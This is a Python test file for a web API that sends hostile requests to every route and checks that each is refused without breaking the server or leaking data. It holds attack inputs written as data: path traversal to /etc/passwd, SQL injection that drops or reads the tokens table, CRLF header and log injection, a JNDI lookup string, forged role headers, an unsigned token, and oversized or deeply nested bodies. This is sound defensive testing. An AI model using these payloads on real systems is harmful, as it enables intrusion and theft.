"""Hostile requests on every route: none is accepted, none breaks the server, and each gets a problem."""

import logging
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any, Final

import pytest

from api.access import tokens
from api.store.database import open_database
from tests.api.database_templates import Template
from tests.api.route_client import PUBLIC_ROUTES, ROUTES, Route, RouteClient, bearer
from tests.api.town import NOW
from tests.effort import every
from tests.paths import ROOT

MARK: Final = "f0rged"  # in every text that must not appear in a log


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, town_template: Template) -> Iterator[RouteClient]:
    with town_template.lend("", tmp_path_factory.mktemp("hostile")) as url:
        yield from open_client(url)


@pytest.fixture(scope="module")
def postgres_client(
    postgres: str, tmp_path_factory: pytest.TempPathFactory, town_template: Template
) -> Iterator[RouteClient]:
    with town_template.lend(postgres, tmp_path_factory.mktemp("hostile")) as url:
        yield from open_client(url)


def open_client(url: str) -> Iterator[RouteClient]:
    database = open_database(url)
    client = RouteClient(database)
    yield client
    client.context.evaluators.close()
    database.dispose()


@dataclass(frozen=True)
class HostileRequest:
    """A request, and the allowed `statuses` of its answer. `applies_to` selects its routes."""

    statuses: tuple[int, ...]
    headers: Callable[[RouteClient, Route], Any] = lambda client, route: bearer(client.token(route))
    applies_to: Callable[[Route], bool] = lambda route: True
    id: str = "no-such-id"
    query: Callable[[Route], str] = lambda route: ""
    content: Callable[[Route], Any] = lambda route: None


REJECTED_STATUSES: Final = (400, 404, 413, 415, 422)
JSON_HEADERS: Final = {"Content-Type": "application/json"}


def needs_token(route: Route) -> bool:
    return route not in PUBLIC_ROUTES


def has_ids(route: Route) -> bool:
    return route.has_ids


def has_body(route: Route) -> bool:
    return route.body


def minimal_body(route: Route) -> bytes:
    return b"{}" if route.body else b""


def authorization(value: str) -> Callable[[RouteClient, Route], dict[str, str]]:
    return lambda client, route: {"Authorization": value}


def with_wrong_role(*more: tuple[str, str]) -> Callable[[RouteClient, Route], list[tuple[str, str]]]:
    """A token of a role without permission, with headers that claim more."""
    return lambda client, route: [*bearer(client.wrong_role_token(route)).items(), *more]


def without_token(*more: tuple[str, str]) -> Callable[[RouteClient, Route], list[tuple[str, str]]]:
    """No token, and headers that claim that none is needed."""
    return lambda client, route: list(more)


CLAIMS: Final = (
    *(("X-Role", "admin"), ("X-User-Role", "admin"), ("Role", "supervisor"), ("X-Forwarded-User", "admin")),
    *(("X-Iftah-Role", "admin"), ("X-Party", "inn"), ("X-Remote-User", "admin"), ("Remote-User", "operator")),
    *(("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1"), ("Forwarded", "for=127.0.0.1;by=admin")),
    *(("X-Original-URL", "/v1/health"), ("X-Rewrite-URL", "/v1/health"), ("X-HTTP-Method-Override", "GET")),
    *(("Cookie", "role=admin; Authorization=Bearer x"), ("X-Authorization", "Bearer admin")),
    ("Proxy-Authorization", "Bearer admin"),
)


def expired_token(client: RouteClient, route: Route) -> dict[str, str]:
    role = client.roles[route]
    return bearer(client.issue(role, client.party(role), expires=NOW - timedelta(seconds=1)))


def revoked_token(client: RouteClient, route: Route) -> dict[str, str]:
    """A valid token that was used and revoked, then sent again."""
    role = client.roles[route]
    token = client.issue(role, "leaver")
    client.http.request(route.method, route.url("no-such-id"), headers=bearer(token))
    tokens.revoke(client.context.database, f"{role} leaver", NOW)
    return bearer(token)


def two_tokens(client: RouteClient, route: Route) -> list[tuple[str, str]]:
    return [*bearer(client.wrong_role_token(route)).items(), *bearer(client.token(route)).items()]


def content_type(kind: str, **more: str) -> Callable[[RouteClient, Route], dict[str, str]]:
    return lambda client, route: {**bearer(client.token(route)), "Content-Type": kind, **more}


def content_length(length: str) -> Callable[[RouteClient, Route], dict[str, str]]:
    return lambda client, route: {**bearer(client.token(route)), **JSON_HEADERS, "Content-Length": length}


def chunked_body(megabytes: int) -> Callable[[Route], Iterator[bytes]]:
    """A body without an announced length."""
    return lambda route: (b'"' + b"x" * 1_000_000 for _ in range(megabytes))


def long_body(megabytes: int) -> Callable[[Route], bytes]:
    return lambda route: b'"' + b"x" * megabytes * 1_000_000 + b'"'


def query_string(value: str) -> Callable[[Route], str]:
    """Every query parameter of the route, and some that it does not have."""
    return lambda route: "?" + "&".join(f"{name}={value}" for name in {*route.query, "role", "party", "subject"})


IDS: Final = {
    "up the folders": "../../../../etc/passwd",
    "up the folders, escaped": "..%2f..%2f..%2fetc%2fpasswd",
    "up the folders, escaped twice": "%252e%252e%252fetc%252fpasswd",
    "up the folders of Windows": "..%5c..%5cwindows%5cwin.ini",
    "a scheme": "file:%2f%2f%2fetc%2fpasswd",
    "SQL": "'%20OR%20'1'='1",
    "SQL that drops": "x';%20DROP%20TABLE%20tokens;%20--",
    "SQL that unites": "x'%20UNION%20SELECT%20digest%20FROM%20tokens%20--",
    "SQL of a pattern": "%25",
    "NUL": "a%00b",
    "NUL alone": "%00",
    "a line for the log": f"x%0d%0a2026-01-01%20ERROR%20{MARK}",
    "a header": "x%0d%0aSet-Cookie:%20role=admin",
    "a colour for the terminal": f"%1b[31m{MARK}",
    "no UTF-8": "%ff%fe",
    "half a character": "%ed%a0%80",
    "text from right to left": "%e2%80%ae" + MARK,
    "a very long one": "x" * 3_000,
    "a template": "%7b%7b7*7%7d%7d",
    "a format": "%25s%25s%25n{0.__class__}",
    "a lookup": "$%7bjndi:ldap:%2f%2fexample.org%2fa%7d",
    "a number of many digits": "9" * 400,
    "another party's": "other-inn%2fhotel",
}
BODIES: Final = {
    "nothing": b"",
    "no JSON": b"nonsense",
    "no UTF-8": b'{"subject": "\xff\xfe"}',
    "UTF-16": '["a"]'.encode("utf-16"),
    "NUL": b"\0" * 100,
    "a very deep list": b"[" * 30_000,
    "a very deep list that ends": b"[" * 30_000 + b"]" * 30_000,
    "a very deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep inside a field": b'{"context": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}",
    "a number of many digits": b'{"amount": ' + b"9" * 6_000 + b"}",
    "no number": b'{"amount": NaN}',
    "beyond numbers": b'{"amount": 1e99999}',
    "an empty list": b"[]",
    "null": b"null",
    "a prototype": b'{"__proto__": {"role": "admin"}, "constructor": 1}',
    "more than was asked": b'{"role": "admin", "party": "inn", "merchant": "inn", "is_admin": true}',
    "half a character": b'{"subject": "\\ud800", "id": "\\udfff", "statement": "\\ud800", "perk": "\\ud800"}',
    "NUL in every text": b'{"subject": "a\\u0000b", "id": "\\u0000", "statement": "\\u0000", "perk": "\\u0000"}',
    "a line for the log": f'{{"subject": "x\\n2026-01-01 ERROR {MARK}", "{MARK}\\r\\n": 1}}'.encode(),
    "many keys": b"{" + b",".join(b'"%d":1' % n for n in range(5_000)) + b"}",
}
ATTACKS: Final = {
    "no token": HostileRequest((401,), without_token(), needs_token),
    "no token but claims": HostileRequest((401,), without_token(*CLAIMS), needs_token),
    "no token but a claim in the address": HostileRequest(
        (401,), without_token(), needs_token, query=query_string("admin")
    ),
    "another's role": HostileRequest((403,), with_wrong_role(), needs_token),
    "another's role and claims": HostileRequest((403,), with_wrong_role(*CLAIMS), needs_token),
    "another's role and a claim in the address": HostileRequest(
        (403,), with_wrong_role(), needs_token, query=query_string("admin")
    ),
    "an expired token": HostileRequest((401,), expired_token, needs_token),
    "a token that was revoked, again": HostileRequest((401,), revoked_token, needs_token),
    "two tokens": HostileRequest((400,), two_tokens, needs_token),
    "a guessed token": HostileRequest((401,), authorization("Bearer iftah_" + "A" * 43), needs_token),
    "a token of SQL": HostileRequest((401,), authorization("Bearer ' OR '1'='1' --"), needs_token),
    "no token after Bearer": HostileRequest((401,), authorization("Bearer "), needs_token),
    "a very long token": HostileRequest((401,), authorization("Bearer " + "A" * 50_000), needs_token),
    "a token in Latin-1": HostileRequest(
        (401,), lambda client, route: [(b"Authorization", b"Bearer \xff\xe9")], needs_token
    ),
    "a password": HostileRequest((401,), authorization("Basic YWRtaW46YWRtaW4="), needs_token),
    "an unsigned token": HostileRequest(
        (401,), authorization("Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ."), needs_token
    ),
    "10 MB": HostileRequest(
        (413, *REJECTED_STATUSES), content_type("application/json"), has_body, content=long_body(17)
    ),
    "10 MB without a token": HostileRequest(
        (401, 413), lambda client, route: JSON_HEADERS, has_body, content=long_body(17)
    ),
    "10 MB in parts": HostileRequest((413,), content_type("application/json"), has_body, content=chunked_body(17)),
    "an announced terabyte": HostileRequest((413,), content_length("1" + "0" * 12), content=minimal_body),
    "a length that is none": HostileRequest((413,), content_length("-1"), content=minimal_body),
    "a body of another type": HostileRequest(
        (415, 422), content_type("text/xml"), has_body, content=lambda route: b"<!DOCTYPE a>"
    ),
    "a form": HostileRequest(
        (415, 422), content_type("application/x-www-form-urlencoded"), has_body, content=lambda route: b"a=1"
    ),
    "a body said to be packed": HostileRequest(
        REJECTED_STATUSES,
        content_type("application/json", **{"Content-Encoding": "gzip"}),
        has_body,
        content=lambda route: b"\x1f\x8b\x08",
    ),
    **{
        f"a body: {name}": HostileRequest(
            REJECTED_STATUSES, content_type("application/json"), has_body, content=lambda route, body=body: body
        )
        for name, body in BODIES.items()
    },
    **{
        f"an id: {name}": HostileRequest(REJECTED_STATUSES, applies_to=has_ids, id=value, content=minimal_body)
        for name, value in IDS.items()
    },
    **{
        f"a query: {name}": HostileRequest(
            (200, *REJECTED_STATUSES),
            applies_to=lambda route: bool(route.query),
            query=query_string(value),
            content=minimal_body,
        )
        for name, value in IDS.items()
    },
}


@pytest.mark.parametrize("name", ATTACKS)
def test_every_route_rejects_hostile_requests_without_breaking(
    client: RouteClient, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    check_routes(client, name, caplog)


@pytest.mark.parametrize("name", [name for name in ATTACKS if ": " in name])
def test_every_route_rejects_hostile_requests_on_postgresql(
    postgres_client: RouteClient, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    check_routes(postgres_client, name, caplog, turn=1)


def check_routes(client: RouteClient, name: str, caplog: pytest.LogCaptureFixture, turn: int = 0) -> None:
    """Try the request on every route that it applies to; in a usual run on one in three, so that each attack has its own."""
    caplog.set_level(logging.DEBUG, "iftah")
    attack = ATTACKS[name]
    routes = every(3, (route for route in ROUTES if attack.applies_to(route)), list(ATTACKS).index(name) + turn)
    failures = {}
    for route in routes:
        path, headers = route.url(attack.id) + attack.query(route), attack.headers(client, route)
        response = client.http.request(route.method, path, headers=headers, content=attack.content(route))
        if not ((response.status_code in attack.statuses or _needs_look(response)) and _is_proper(response)):
            failures[str(route)] = f"{response.status_code} {response.text[:200]}"
    assert routes
    assert failures == {}
    assert _forged_lines(caplog.records) == []


def _needs_look(response: Any) -> bool:
    return response.status_code == 403 and response.json()["code"] == "look_needed"  # of an operator without a purpose


def _is_proper(response: Any) -> bool:
    """The answer is a short problem, without the caller's forged text and our internals."""
    if response.status_code == 200:
        return True
    shape = (
        response.headers["content-type"] == "application/problem+json"
        and response.json()["status"] == response.status_code
    )
    secret = any(word in response.text for word in ("Traceback", "sqlite", "SELECT", str(ROOT), "root:"))
    return shape and not secret and len(response.content) < 3_000 and "set-cookie" not in response.headers


def _forged_lines(records: list[logging.LogRecord]) -> list[str]:
    """The lines of our log that hold text of a caller."""
    messages = [record.getMessage() for record in records if record.name.startswith("iftah")]
    return [line for line in messages if MARK in line or "\n" in line or "\r" in line or "\x1b" in line]


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "TRACK", "X" * 5_000])
def test_a_method_that_is_not_for_an_address_is_refused(client: RouteClient, method: str) -> None:
    for route in ROUTES:
        response = client.http.request(method, route.url("x"), headers=bearer(client.token(route)))
        assert (response.status_code, response.json()["code"]) in ((405, "method_not_allowed"), (404, "not_found")), (
            route
        )


@pytest.mark.parametrize(
    "change",
    [
        str.upper,
        lambda p: f"/{p}",
        lambda p: f"{p}/",
        lambda p: p.replace("/v1", "/v1/../v1"),
        lambda p: f"{p};role=admin",
        lambda p: p.replace("/v1/", "/v1%2f"),
    ],
)
def test_other_spellings_of_a_path_do_not_bypass_the_token(client: RouteClient, change: Callable[[str], str]) -> None:
    for route in filter(needs_token, ROUTES):
        response = client.http.request(
            route.method, f"http://testserver{change(route.url('x'))}", headers={"Host": "evil.example"}
        )
        assert response.status_code in (401, 404, 405), route
        assert "evil.example" not in str(response.headers) + response.text, route


def test_an_error_reveals_nothing_about_its_subject(client: RouteClient, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    body = {
        "subject": client.best_scored_person,
        "perk": client.best_scored_person,
        "amount": -1,
        client.best_scored_person: 1,
    }
    for route in filter(has_body, ROUTES):
        response = client.http.request(route.method, route.url("x"), json=body, headers=bearer(client.token(route)))
        assert response.status_code in REJECTED_STATUSES, route
    assert not [r for r in caplog.records if r.name.startswith("iftah") and client.best_scored_person in r.getMessage()]


def _ask(client: RouteClient) -> Any:
    return _post(
        client, "eligibility", transaction_id="T-1", service="hotel", subject=client.best_scored_person, amount=50_000
    )


def _send_event(client: RouteClient) -> Any:
    row = {"event_id": "mine", "kind": "person.enrolled", "subject": "ann", "identity_level": 1}
    return _post(client, "events", "contributor", events=[row | {"happened_at": "2020-01-01T00:00:00Z"}])


def _create_order(client: RouteClient) -> str:
    decision_fields = {"decision_id": _ask(client)["decision_id"], "service": "hotel", "service_introduction": "a room"}
    order = _post(
        client, "orders", out_order_no="O-1", risk_fund={"name": "DEPOSIT", "amount": 50_000}, **decision_fields
    )
    return str(order["out_order_no"])


def _post(client: RouteClient, group: str, role: str = "merchant", **body: Any) -> Any:
    return client.http.post(f"/v1/{group}", json=body, headers=bearer(client.tokens[role])).json()


# The path of a thing -> how a party makes one of its own and returns its id. No other party may read or change it.
OWNED_PATHS: Final[dict[str, Callable[[RouteClient], str]]] = {
    "/v1/decisions/{decision_id}": lambda client: str(_ask(client)["decision_id"]),
    "/v1/events/submissions/{submission_id}": lambda client: str(_send_event(client)["id"]),
    "/v1/events/{event_id}": lambda client: str(_send_event(client)["rows"][0]["event_id"]),
    "/v1/services/{service}": lambda client: "hotel",
    "/v1/consents/{request_id}": lambda client: str(
        _post(client, "consents", service="hotel", subject=client.best_scored_person, classes=["credit"])["id"]
    ),
    "/v1/orders/{out_order_no}": _create_order,
}


@pytest.mark.parametrize("path", [path for path in OWNED_PATHS if any(r.path == path for r in ROUTES)])
def test_an_object_of_another_party_is_answered_like_a_missing_one(client: RouteClient, path: str) -> None:
    name = OWNED_PATHS[path](client)
    missing_name = name[:-1] + ("1" if name[-1] == "0" else "0")
    for route in (r for r in ROUTES if r.path.startswith(path)):
        role, body = client.roles[route], minimal_body(route)
        other_headers = bearer(client.issue(role, f"another {role}"))
        response = client.http.request(route.method, route.url(name), headers=other_headers, content=body)
        missing_response = client.http.request(
            route.method, route.url(missing_name), headers=other_headers, content=body
        )
        assert (response.status_code in REJECTED_STATUSES, response.json()) == (True, missing_response.json()), route
        if route.method == "GET":
            own_response = client.http.get(route.url(name), headers=bearer(client.tokens[role]))
            assert (own_response.status_code, response.status_code) == (200, 404), route
